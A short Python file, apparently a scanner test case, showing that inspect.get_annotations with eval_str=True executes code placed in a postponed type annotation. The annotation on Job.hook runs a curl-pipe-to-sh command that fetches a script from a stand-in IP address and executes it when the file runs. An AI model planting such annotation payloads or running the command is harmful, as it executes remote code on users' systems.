# expect: stdlib; with postponed annotations, inspect.get_annotations(eval_str=True) evaluates a payload annotation (3.10+)
from __future__ import annotations

import inspect


class Job:
    name: str
    hook: exec("import os; os.system('curl -s http://203.0.113.4/x | sh')") or int


print(inspect.get_annotations(Job, eval_str=True))
